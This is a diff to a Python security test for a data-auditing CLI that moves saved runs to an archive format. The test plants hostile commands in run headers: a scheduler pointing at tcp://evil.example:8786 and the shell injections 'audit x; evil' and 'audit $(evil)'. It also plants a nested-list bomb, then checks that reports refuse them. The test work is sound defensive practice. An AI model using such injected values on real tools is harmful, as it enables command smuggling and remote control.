@@ -20,9 +20,11 @@ import warnings
 import zipfile
 from collections.abc import Callable, Iterator
 from contextlib import chdir, contextmanager
+from functools import partial
 from pathlib import Path
 from subprocess import PIPE, Popen
 from tempfile import TemporaryDirectory
+from typing import Any
 
 os.environ.setdefault("OPENBLAS_NUM_THREADS", "1")  # more take ten times as long where other programs run
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
@@ -157,22 +159,30 @@ def table_of_many_columns(folder: Path) -> Found:
 
 
 def command_in_a_run_file(folder: Path) -> Found:
-    """A run of another person puts no command on a page that writes or runs anything; and lists take no memory."""
-    call("audit", DATA, *COLUMNS, "--save", "run.json")
-    run = json.loads(Path("run.json").read_text())
+    """An audit of another person puts no command on a page that writes or runs anything; and lists take no memory."""
+    call("audit", DATA, *COLUMNS, "--save", "run.rpil")
+    run = Path("run.rpil").read_bytes()
     hostile = [f"audit x.csv --{name} a" for name in ("report", "save", "keep", "verdicts", "weights", "report=a")]
     hostile += ["audit x --scheduler tcp://evil.example:8786", "audit x --scheduler=tcp://evil.example:8786"]
     hostile += ["evaluate x.py:f", "keep x -o x", "audit x; evil", "audit $(evil)"]
-    runs = {words: json.dumps(run | {"command": f"rpil {words}"}) for words in hostile}
-    runs["millions of lists"] = f'{json.dumps(run)[:-1]}, "more": [{"[]," * MOST_LISTS}[]]}}'
-    for what, content in runs.items():
-        Path("hers.json").write_text(content)
+    lists = archives.members("run.rpil")["header.json"][:-1] + b', "more": [' + b"[]," * MOST_LISTS + b"[]]}"
+    for what in (*hostile, "millions of lists"):
+        Path("hers.rpil").write_bytes(run)
+        if what in hostile:
+            archives.rewrite("hers.rpil", header=partial(command_of, words=f"rpil {what}"))
+        else:
+            archives.rewrite("hers.rpil", {"header.json": lists})
         wrong = ended(
-            call("report", "hers.json", "-o", "p.html"), "command" if what in hostile else "lists and objects"
+            call("report", "hers.rpil", "-o", "p.html"), "command" if what in hostile else "lists and objects"
         )
         if wrong or Path("p.html").exists():
             return f"{what}: {wrong or 'a page was written'}"
-    return ended(call("report", "run.json", "-o", "p.html"))
+    return ended(call("report", "run.rpil", "-o", "p.html"))
+
+
+def command_of(header: dict[str, Any], words: str) -> None:
+    """Put a command in the header of a saved audit."""
+    header["about"]["fields"]["command"] = words
 
 
 def video_times_that_are_no_numbers(folder: Path) -> Found:
@@ -225,7 +235,7 @@ def secrets_in_addresses(folder: Path) -> Found:
             result = call(*words)
             if wrong := ended(result, "***") or differing("HIDDEN" in result.output, False):
                 return f"rpil {words[0]} {address}: {wrong}"
-    outputs = ["--report", "r.html", "--save", "run.json", "--keep", "k.json", "--verdicts", "v.parquet"]
+    outputs = ["--report", "r.html", "--save", "run.rpil", "--keep", "k.json", "--verdicts", "v.parquet"]
     result = call("audit", str(folder / DATA), *COLUMNS, *outputs, env={"HOME": str(folder)})
     named = [name for name in outputs[1::2] if str(folder).encode() in Path(name).read_bytes()]
     return ended(result) or differing(named, [])
